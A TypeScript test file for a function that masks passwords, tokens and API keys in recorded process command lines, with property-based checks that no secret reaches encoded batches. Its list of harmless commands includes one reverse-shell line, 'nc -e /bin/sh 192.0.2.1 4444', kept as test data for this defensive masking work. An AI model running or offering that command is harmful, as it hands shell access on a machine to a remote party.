import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { BatchBuilder } from '../batching/builder.ts';
import { Recorder } from '../batching/recorder.ts';
import { unknownExecutable } from '../processes/executable.ts';
import { unknownImage } from '../processes/image.ts';
import { ProcessTable } from '../processes/table.ts';
import { makeMask } from './mask.ts';

const mask = makeMask();
const line = (...words: string[]) => words.map(word => `${word}\0`).join('');
const maskLine = (text: string) =>
  mask(line(...text.split(' ')))
    .split('\0')
    .slice(0, -1)
    .join(' ');

// First of all: code that has not run often takes more of the stack.
test('assignments within assignments, as many as fit, end nobody', () => {
  for (const sign of '=:') assert.equal(mask(line(`a${sign}`.repeat(16_384))), line(`a${sign}`.repeat(16_384)));
});

test('a secret is masked, and what is around it stays', () => {
  const cases: [string, string][] = [
    ['mysql -u root -pS3cret shop', 'mysql -u root -p*** shop'],
    ['mysql -u root -p shop', 'mysql -u root -p shop'],
    ['/usr/bin/mysqldump --password=S3cret --all', '/usr/bin/mysqldump --password=*** --all'],
    ['sudo mysql -pS3cret', 'sudo mysql -p***'],
    ['vault write --token S3cret path', 'vault write --token *** path'],
    ['app --api-key S3cret --verbose', 'app --api-key *** --verbose'],
    ['env PGPASSWORD=S3cret psql', 'env PGPASSWORD=*** psql'],
    ['curl -u ann:S3cret https://host/x', 'curl -u ann:*** https://host/x'],
    ['curl -uann:S3cret https://host/x', 'curl -uann:*** https://host/x'],
    ['curl https://ann:S3cret@host:8080/x', 'curl https://ann:***@host:8080/x'],
    ['psql postgres://ann:S3/c@ret@host/db', 'psql postgres://ann:***@host/db'],
    ['git clone https://S3cretS3cret@host/r.git', 'git clone https://***@host/r.git'],
    ['curl -d user=ann&password=S3cret&x=1 https://host', 'curl -d user=ann&password=***&x=1 https://host'],
    ['curl -d {"user":"ann","password":"S3cret"} https://host', 'curl -d {"user":"ann","password":"***"} https://host'],
    ['sshpass -p S3cret ssh host', 'sshpass -p *** ssh host'],
    ['docker login -u ann -p S3cret registry', 'docker login -u ann -p *** registry'],
    ['redis-cli -a S3cret ping', 'redis-cli -a *** ping'],
    ['htpasswd -nb ann S3cret', 'htpasswd -nb ann ***'],
    ['smbclient //host/share -U ann%S3cret', 'smbclient //host/share -U ann%***'],
    ['7z x -pS3cret a.7z', '7z x -p*** a.7z'],
    ['mount -o username=ann,password=S3cret,ro //h/s /mnt', 'mount -o username=ann,password=***,ro //h/s /mnt'],
    ['openssl enc -aes256 -pass pass:S3cret', 'openssl enc -aes256 -pass ***'],
    ['tool ghp_0123456789012345678901234567890123456', 'tool ***'],
    ['ssh user@host -p 2222', 'ssh user@host -p 2222'],
  ];
  for (const [given, expected] of cases) assert.equal(maskLine(given), expected);
});

test('a command line in one argument is masked like one of its own', () => {
  const cases: [string, string][] = [
    ["mysql -u root -p'S3 cret' shop | tee x", 'mysql -u root -p*** shop | tee x'],
    ['PGPASSWORD=S3cret psql -h db', 'PGPASSWORD=*** psql -h db'],
    ['curl -H "Authorization: Bearer S3cret.x" https://host', 'curl -H "Authorization: ***" https://host'],
    ['app --password S3cret && ls', 'app --password *** && ls'],
  ];
  for (const [given, expected] of cases) assert.equal(mask(line('sh', '-c', given)), line('sh', '-c', expected));
});

test('a value with spaces is masked to its end', () => {
  assert.equal(mask(line('app', '--password=my S3cret phrase')), line('app', '--password=***'));
  assert.equal(mask(line('env', 'DB_PASSWORD=my S3cret', 'app')), line('env', 'DB_PASSWORD=***', 'app'));
  assert.equal(mask(line('curl', '-H', 'X-Api-Key: S3 cret')), line('curl', '-H', 'X-Api-Key: ***'));
});

test('what is no secret is left alone', () => {
  const harmless = [
    'ls -la /etc/passwd',
    'cat /home/ann/secrets/plan.txt',
    'docker run -p 8080:80 nginx',
    'ssh -p 2222 host',
    'mkdir -p /srv/tokens',
    'app --password-file /run/secrets/db --passive --token-type bearer',
    'curl http://host:8080/users?mail=a@b.c',
    'tar -cpf a.tar b',
    'grep -r keyword= src',
    'python3 -m http.server 8000',
    'nc -e /bin/sh 192.0.2.1 4444',
  ];
  for (const each of harmless) assert.equal(maskLine(each), each);
});

test('a pattern of the configuration masks its first group, or all that it matches', () => {
  const custom = makeMask([/--badge (\d+)/dgu, /INT-[A-Z]+/dgu]);
  assert.equal(custom(line('sh', '-c', 'x --badge 1234 INT-ABC y')), line('sh', '-c', 'x --badge *** *** y'));
});

test('masking twice is masking once, and no text takes long', () => {
  const word = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 60 }),
    fc.constantFrom('--password', 'mysql', '-p', '=', '://', ':@', "'", '"'),
  );
  fc.assert(
    fc.property(fc.array(word, { maxLength: 20 }), words => {
      const once = mask(words.join('\0'));
      assert.equal(mask(once), once);
      assert.equal(once.split('\0').length, words.join('\0').split('\0').length);
    }),
  );
  for (const hostile of [
    'a'.repeat(4096),
    'a-'.repeat(2048),
    '://'.repeat(1300),
    '"'.repeat(4096),
    "'a=".repeat(1300),
    'x:@'.repeat(1300),
    'https://acookie'.repeat(270),
  ]) {
    const start = performance.now();
    mask(line('sh', '-c', hostile));
    assert.ok(performance.now() - start < 200, hostile.slice(0, 10));
  }
});

/** Ways in which people put a secret on a command line. */
const ways: readonly ((secret: string) => string[])[] = [
  secret => ['mysql', '-uroot', `-p${secret}`, 'shop'],
  secret => ['app', '--password', secret],
  secret => ['app', `--db-password=${secret}`],
  secret => ['app', '-password', secret],
  secret => ['env', `API_TOKEN=${secret}`, 'app'],
  secret => ['curl', '-u', `ann:${secret}`, 'https://host'],
  secret => ['curl', `https://ann:${secret}@host/path`],
  secret => ['curl', '-H', `Authorization: Bearer ${secret}`, 'https://host'],
  secret => ['curl', `https://host/?access_token=${secret}&x=1`],
  secret => ['curl', '--data', `{"client_secret": "${secret}"}`],
  secret => ['sh', '-c', `mysql -p${secret} shop > /tmp/x`],
  secret => ['bash', '-lc', `sshpass -p ${secret} ssh host; echo done`],
  secret => ['sh', '-c', `export AWS_SECRET_ACCESS_KEY=${secret}; aws s3 ls`],
  secret => ['sshpass', '-p', secret, 'ssh', 'host'],
  secret => ['sudo', '-u', 'x', 'mysqldump', `-p${secret}`],
  secret => ['ldapsearch', '-x', '-D', 'cn=admin', '-w', secret],
  secret => ['docker', 'login', '-u', 'ann', '-p', secret],
  secret => ['redis-cli', '-h', 'db', '-a', secret],
  secret => ['htpasswd', '-b', 'file', 'ann', secret],
  secret => ['smbclient', '//host/share', '-U', `ann%${secret}`],
];

test('a secret never appears in an encoded batch', () => {
  const secret = fc
    .stringMatching(/^[A-Za-z0-9!$%*+_~^]{8,40}$/)
    .filter(text => /[0-9]/.test(text) && /[a-zA-Z]/.test(text) && !text.startsWith('-'));
  fc.assert(
    fc.property(
      secret,
      fc.constantFrom(...ways),
      fc.array(fc.string({ maxLength: 10 }), { maxLength: 4 }),
      (hidden, way, before) => {
        const args = line(...before.map(word => `x${word.replaceAll('\0', '')}`), ...way(hidden));
        const table = new ProcessTable({
          maskArgs: mask,
          userName: () => '',
          executable: () => unknownExecutable,
          readProcess: () => undefined,
          processOfThread: () => 0,
          readLoader: () => undefined,
          count: () => undefined,
        });
        const builder = new BatchBuilder(10);
        const image = {
          ...unknownImage(5, 6),
          file: undefined,
          args,
          argsBytes: args.length,
          exe: '/bin/x',
          parentPid: 0,
          parentTicks: 0,
        };
        new Recorder(table, builder).record({
          kind: 'exec',
          time: 1e15,
          pid: 5,
          startTicks: 6,
          count: 1,
          image,
          asked: 'x',
          loaderCut: false,
        });
        const bytes = Buffer.from(builder.encode({}));
        assert.ok(bytes.includes('***'));
        assert.ok(!bytes.includes(hidden), way(hidden).join(' '));
      },
    ),
    { numRuns: 2000 },
  );
});
